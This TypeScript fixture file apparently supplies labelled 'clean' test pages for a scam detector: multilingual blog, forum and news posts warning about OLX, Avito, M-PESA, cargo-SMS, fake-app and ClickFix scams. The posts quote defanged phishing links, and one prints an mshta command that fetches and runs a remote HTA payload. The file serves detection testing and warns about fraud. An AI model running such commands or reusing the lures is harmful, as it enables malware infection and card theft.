import { type Entry } from '../entry.js';
import { cookieBar, doc, fbq, gtag, metrika, rtlCss } from '../parts/zi-kit.js';

// News, forums and blogs, including posts that quote scam messages and warn about them.

export const entries: Entry[] = [
  {
    id: 'zi-clean-blog-olx-scam-warning-pl',
    label: 'clean',
    kind: 'security-blog',
    url: 'https://bezpiecznie-w-sieci.com.pl/2025/10/oszustwo-na-olx-kupujacy-oplacil/',
    body: doc({
      lang: 'pl',
      title: 'Oszustwo „Kupujący opłacił” wraca. Tym razem podszywają się pod InPost i OLX - Bezpiecznie w Sieci',
      css: 'header{background:#111;color:#fff;padding:14px 30px}article{max-width:760px;margin:20px auto;background:#fff;padding:30px}blockquote{background:#f4f4f4;border-left:4px solid #c00;padding:10px 16px;font-family:monospace;font-size:14px}.shot{border:1px dashed #999;padding:12px;background:#fafafa;font-size:13px}aside{max-width:760px;margin:0 auto;font-size:13px}',
      body: `<header><b>Bezpiecznie w Sieci</b> · Porady · Incydenty · Podcast</header>
<article><h1>Oszustwo „Kupujący opłacił” wraca. Tym razem podszywają się pod InPost i OLX</h1><p><i>14 października 2025 · Anna Zielińska · 6 min czytania</i></p>
<p>Od kilku dni czytelnicy przesyłają nam zrzuty ekranu rozmów na WhatsAppie. Schemat jest stały: „kupujący” pyta o przedmiot, po czym przesyła link z rzekomym potwierdzeniem płatności. Oto typowa wiadomość:</p>
<blockquote>Dzień dobry, opłaciłem Pana przedmiot przez OLX Dostawę. Aby otrzymać środki proszę wejść w link i wpisać dane karty: olx.pl-dostawa-bezpieczna[.]com/oferta/78321944</blockquote>
<p>Strona wygląda jak OLX, pokazuje zdjęcie Twojego przedmiotu i prosi o numer karty, datę ważności, CVC, a nawet „saldo karty do weryfikacji”. Następnie pojawia się prośba o kod SMS — który w rzeczywistości autoryzuje przelew lub dodanie karty do Apple Pay przestępcy.</p>
<div class="shot">[Zrzut ekranu: fałszywa strona „Odbierz 1 450,00 zł” — domena olx.pl-dostawa-bezpieczna.com]</div>
<h2>Jak się chronić?</h2><ul><li>Aby <b>otrzymać</b> pieniądze, nigdy nie podajesz CVC ani kodu SMS.</li><li>Sprawdzaj domenę — olx.pl-cokolwiek.com to nie OLX.</li><li>Zgłaszaj podejrzane strony na <b>incydent.cert.pl</b> lub SMS-em na numer 8080.</li></ul>
<p>Jeśli podałeś dane karty — natychmiast zastrzeż ją w aplikacji banku lub pod numerem 828 828 828.</p></article>
<aside>Komentarze (47) · <b>Tomek:</b> Mnie to spotkało wczoraj przy sprzedaży wózka, dokładnie ta sama domena!</aside>
${gtag('G-BWS2025XYZ')}
${cookieBar('Ta strona używa ciasteczek.', 'OK')}`,
    }),
  },
  {
    id: 'zi-clean-forum-avito-mosheniki-ru',
    label: 'clean',
    kind: 'forum',
    url: 'https://forum.zashchita-potrebitelej.ru/threads/avito-dostavka-razvod-s-ssylkoj.118273/',
    body: doc({
      lang: 'ru',
      title: 'Авито доставка — развод со ссылкой на «получение средств» | Форум потребителей',
      css: 'header{background:#3a3f44;color:#fff;padding:12px 30px}.t{max-width:900px;margin:16px auto}.p{background:#fff;margin-bottom:10px;display:flex}.u{width:150px;background:#f0f0f0;padding:12px;font-size:13px}.m{flex:1;padding:14px}code{background:#eee;padding:2px 4px}',
      body: `<header>Форум потребителей › Мошенничество › Интернет-площадки</header>
<div class="t"><h2>Авито доставка — развод со ссылкой на «получение средств»</h2>
<div class="p"><div class="u"><b>Kazanets</b><br>Сообщений: 214</div><div class="m">Продавал айфон, написал «покупатель», сразу согласился без торга и попросил перейти в WhatsApp. Прислал ссылку <code>avito.ru-delivery-safe[.]com/order/4471920</code>, там страница как у Авито, «заказ оплачен», надо ввести карту чтобы получить 38 500. Хорошо что остановился на CVC.</div></div>
<div class="p"><div class="u"><b>Модератор</b></div><div class="m">Классическая схема. Запомните: на настоящем Авито для получения денег никуда карту вводить не надо, деньги приходят в кошелёк Авито. Ссылки вида <i>avito.ru-что-то.com</i> — фишинг. Сообщайте в поддержку и в банк.</div></div>
<div class="p"><div class="u"><b>olga_spb</b></div><div class="m">У меня так списали 12 тысяч, банк отказался возвращать, т.к. я сама ввела код из смс 😢</div></div></div>
${metrika(11882733)}`,
    }),
  },
  {
    id: 'zi-clean-blog-mpesa-fraud-tips-sw',
    label: 'clean',
    kind: 'security-blog',
    url: 'https://techweez-habari.co.ke/2025/10/jinsi-ya-kujikinga-na-matapeli-wa-mpesa/',
    body: doc({
      lang: 'sw',
      title: 'Jinsi ya Kujikinga na Matapeli wa M-PESA mwaka 2025',
      css: 'header{background:#0b3d2e;color:#fff;padding:14px 30px}article{max-width:760px;margin:20px auto;background:#fff;padding:28px}blockquote{background:#f0f7f0;border-left:4px solid #4caf50;padding:10px 14px}',
      body: `<header><b>Habari za Teknolojia</b> · Simu · M-PESA · Usalama</header>
<article><h1>Jinsi ya Kujikinga na Matapeli wa M-PESA mwaka 2025</h1><p><i>Imeandikwa na Wanjiru Kamau · Oktoba 12, 2025</i></p>
<p>Matapeli wamebuni njia mpya ya kuiba pesa kupitia tovuti bandia zinazodai kusaidia "kurudisha pesa iliyotumwa kimakosa". Mfano wa ujumbe uliotumwa kwa wasomaji wetu:</p>
<blockquote>Mteja mpendwa, muamala wako wa KSh 4,500 umeshindwa. Jaza fomu ya reversal hapa mpesa-reversal-ke[.]top ili kurudishiwa pesa zako.</blockquote>
<p>Tovuti hiyo inaomba PIN ya M-PESA na nambari ya kitambulisho — kitu ambacho Safaricom haiwezi kamwe kukuomba.</p>
<h2>Vidokezo</h2><ol><li>Kwa reversal halali, tuma ujumbe wa muamala kwa 456.</li><li>Usitoe PIN yako kwa mtu yeyote.</li><li>Ripoti nambari za matapeli kwa kutuma SMS kwa 333.</li><li>Mikopo ya "bila CRB" inayodai ada ya usindikaji kabla ya kukupa pesa ni utapeli.</li></ol></article>
${fbq('771200318822')}`,
    }),
  },
  {
    id: 'zi-clean-news-kargo-sms-uyari-tr',
    label: 'clean',
    kind: 'news',
    url: 'https://www.gundem-haber-merkezi.com.tr/teknoloji/kargo-sms-dolandiriciligi-uyari-1928172',
    body: doc({
      lang: 'tr',
      title: 'Kargo SMS dolandırıcılığına dikkat: "Adresiniz eksik" mesajı tuzak çıktı',
      css: 'header{background:#c00;color:#fff;padding:12px 30px}article{max-width:760px;margin:20px auto;background:#fff;padding:26px}blockquote{background:#fff5f5;border-left:4px solid #c00;padding:10px}.ad{background:#eee;height:90px;text-align:center;line-height:90px;color:#999;margin:16px 0}',
      body: `<header><b>Gündem Haber Merkezi</b> · Son Dakika · Ekonomi · Teknoloji · Spor</header>
<article><h1>Kargo SMS dolandırıcılığına dikkat: "Adresiniz eksik" mesajı tuzak çıktı</h1><p><i>15.10.2025 11:40 · Teknoloji Servisi</i></p>
<p>Emniyet Genel Müdürlüğü Siber Suçlarla Mücadele Daire Başkanlığı, vatandaşları PTT Kargo adıyla gönderilen sahte SMS'lere karşı uyardı. Mesajlar şu şekilde:</p>
<blockquote>PTT: Gönderiniz adres eksikliği nedeniyle bekletilmektedir. 14,90 TL ödeme yaparak teslimat planlayın: ptt-kargo-takip[.]click/k/Tr8812</blockquote>
<div class="ad">Reklam</div>
<p>Bağlantıya tıklayan kullanıcılar, kart bilgilerini ve TC kimlik numarasını isteyen sahte bir sayfaya yönlendiriliyor. PTT yetkilileri, kurumun SMS ile ödeme bağlantısı göndermediğini açıkladı.</p>
<p>Şüpheli mesajlar USOM'a veya 155'e bildirilebilir.</p></article>
${gtag('G-GHM88TR12')}`,
    }),
  },
  {
    id: 'zi-clean-news-red-alert-apk-he',
    label: 'clean',
    kind: 'news',
    url: 'https://www.hadashot-tech.co.il/article/fake-red-alert-app-warning',
    body: doc({
      lang: 'he',
      dir: 'rtl',
      title: 'אזהרה: אפליקציית "צבע אדום" מזויפת מפיצה רוגלה',
      css: rtlCss + 'header{background:#0d47a1;color:#fff;padding:12px 30px}article{max-width:760px;margin:20px auto;background:#fff;padding:26px}.q{background:#f1f1f1;padding:10px;border-right:4px solid #0d47a1}',
      body: `<header><b>חדשות טק</b> · סייבר · מובייל · סטארטאפים</header>
<article><h1>אזהרה: אפליקציית "צבע אדום" מזויפת מפיצה רוגלה</h1><p><i>מערכת חדשות טק · 14.10.2025</i></p>
<p>מערך הסייבר הלאומי מזהיר מפני הודעות SMS המציעות להוריד "גרסה חדשה" של אפליקציית ההתרעות צבע אדום מאתר חיצוני. נוסח ההודעה:</p>
<p class="q">עדכון חשוב: גרסה 5.2 של צבע אדום עם התרעות מהירות יותר. להורדה: redalert-app.org.il-download[.]com</p>
<p>הקובץ שמורד הוא APK שמבקש הרשאות לאנשי קשר, יומן שיחות ו-SMS ומעביר את המידע לשרת זר. יש להוריד אפליקציות התרעה רק מ-Google Play או App Store, או להשתמש באפליקציית פיקוד העורף הרשמית.</p>
<p>לדיווח על הודעה חשודה: 119.</p></article>`,
    }),
  },
  {
    id: 'zi-clean-news-economy-ar',
    label: 'clean',
    kind: 'news',
    url: 'https://www.akhbar-al-iqtisad.com/markets/aramco-q3-results',
    body: doc({
      lang: 'ar',
      dir: 'rtl',
      title: 'أرامكو تعلن نتائج الربع الثالث وتوزيعات أرباح بقيمة 31 مليار دولار',
      css: rtlCss + 'header{background:#00843d;color:#fff;padding:12px 30px}.w{max-width:1100px;margin:20px auto;display:flex;gap:20px}article{flex:3;background:#fff;padding:26px}aside{flex:1;background:#fff;padding:16px;font-size:14px}.box{background:#fff8e1;padding:12px;margin-top:16px}',
      body: `<header><b>أخبار الاقتصاد</b> · الأسواق · الطاقة · العقارات · التقنية</header>
<div class="w"><article><h1>أرامكو تعلن نتائج الربع الثالث وتوزيعات أرباح بقيمة 31 مليار دولار</h1><p><i>الرياض — 4 نوفمبر 2025</i></p>
<p>أعلنت شركة الزيت العربية السعودية (أرامكو) عن صافي دخل بلغ 27.6 مليار دولار للربع الثالث، بانخفاض نسبته 15% مقارنة بالفترة نفسها من العام الماضي، متأثرة بتراجع أسعار النفط.</p>
<p>وقال الرئيس التنفيذي إن الشركة ماضية في خطط توسعة إنتاج الغاز بنسبة 60% بحلول 2030.</p>
<div class="box"><b>تنبيه للقراء:</b> تنتشر إعلانات على وسائل التواصل تَعِد بـ"أرباح يومية مضمونة" من الاستثمار في أسهم أرامكو عبر منصات غير مرخصة. أسهم أرامكو متاحة فقط عبر السوق المالية السعودية (تداول) من خلال وسطاء مرخصين من هيئة السوق المالية.</div></article>
<aside><h3>مؤشرات</h3><p>تاسي: 11,482 ▲ 0.4%</p><p>برنت: 74.2$ ▼ 1.1%</p><p>الذهب: 2,640$ ▲ 0.2%</p></aside></div>`,
    }),
  },
  {
    id: 'zi-clean-blog-tech-fa',
    label: 'clean',
    kind: 'blog',
    url: 'https://blog.amniat-digital.ir/posts/phishing-sana-sms',
    body: doc({
      lang: 'fa',
      dir: 'rtl',
      title: 'پیامک جعلی «ابلاغیه ثنا» چگونه حساب بانکی شما را خالی می‌کند',
      css: rtlCss + 'header{background:#263238;color:#fff;padding:12px 30px}article{max-width:760px;margin:20px auto;background:#fff;padding:26px}.q{background:#eceff1;padding:10px;font-size:14px}',
      body: `<header><b>وبلاگ امنیت دیجیتال</b> · آموزش · هشدارها · درباره ما</header>
<article><h1>پیامک جعلی «ابلاغیه ثنا» چگونه حساب بانکی شما را خالی می‌کند</h1><p><i>نوشته سارا محمدی — ۲۲ مهر ۱۴۰۴</i></p>
<p>در هفته‌های اخیر پیامک‌هایی با این متن ارسال شده است:</p><p class="q">ابلاغیه الکترونیک جدید برای شما صادر شد. جهت مشاهده شکایت وارد شوید: shaparak-pay.ir-adliran[.]com</p>
<p>این لینک شما را به صفحه‌ای شبیه درگاه شاپرک می‌برد و برای «هزینه خدمات» مبلغ ناچیزی طلب می‌کند. اما در واقع اطلاعات کارت و رمز دوم شما سرقت می‌شود و گاهی یک برنامه اندرویدی مخرب هم نصب می‌شود.</p>
<h2>نکات مهم</h2><ul><li>آدرس درگاه‌های پرداخت واقعی همیشه به shaparak.ir ختم می‌شود.</li><li>ابلاغیه‌های قضایی فقط از سامانه ثنا به آدرس adliran.ir قابل مشاهده است.</li><li>هرگز برنامه‌ای را از لینک پیامکی نصب نکنید.</li></ul></article>`,
    }),
  },
  {
    id: 'zi-clean-blog-clickfix-explainer-hu',
    label: 'clean',
    kind: 'security-blog',
    url: 'https://kiberbiztonsag-blog.hu/2025/10/hamis-captcha-win-r-parancs/',
    body: doc({
      lang: 'hu',
      title: 'Hamis CAPTCHA: ha egy weboldal Win+R-t kér, zárja be! - Kiberbiztonság Blog',
      css: 'header{background:#1a237e;color:#fff;padding:12px 30px}article{max-width:780px;margin:20px auto;background:#fff;padding:28px}pre{background:#263238;color:#eceff1;padding:12px;overflow:auto;font-size:13px}.w{background:#ffebee;padding:12px;border-left:4px solid #c62828}',
      body: `<header><b>Kiberbiztonság Blog</b> · Elemzések · Tippek · Hírek</header>
<article><h1>Hamis CAPTCHA: ha egy weboldal Win+R-t kér, zárja be!</h1><p><i>Szabó Péter · 2025. október 16.</i></p>
<p>Az úgynevezett „ClickFix” támadásokban egy feltört weboldal robotellenőrzést mutat, majd arra kéri a látogatót, hogy nyomja meg a <b>Win+R</b>, majd a <b>Ctrl+V</b> és az <b>Enter</b> billentyűket. A háttérben a vágólapra egy ilyen parancs kerül (a domaint hatástalanítottuk):</p>
<pre>mshta hxxps://kino-cdn-stat[.]ru[.]net/cap/v2.hta # Cloudflare Ray ID: 8f1a2bc94e7d31a0 - human verification</pre>
<p>A parancs egy HTA fájlt tölt le és futtat, amely jellemzően Lumma vagy más információlopó kártevőt telepít.</p>
<div class="w">Egyetlen valódi CAPTCHA sem kéri, hogy parancsot futtasson a számítógépén.</div>
<p>Ha már futtatta: bontsa a hálózati kapcsolatot, változtassa meg jelszavait egy másik eszközről, és forduljon a NKI-hez (Nemzeti Kibervédelmi Intézet).</p></article>`,
    }),
  },
];
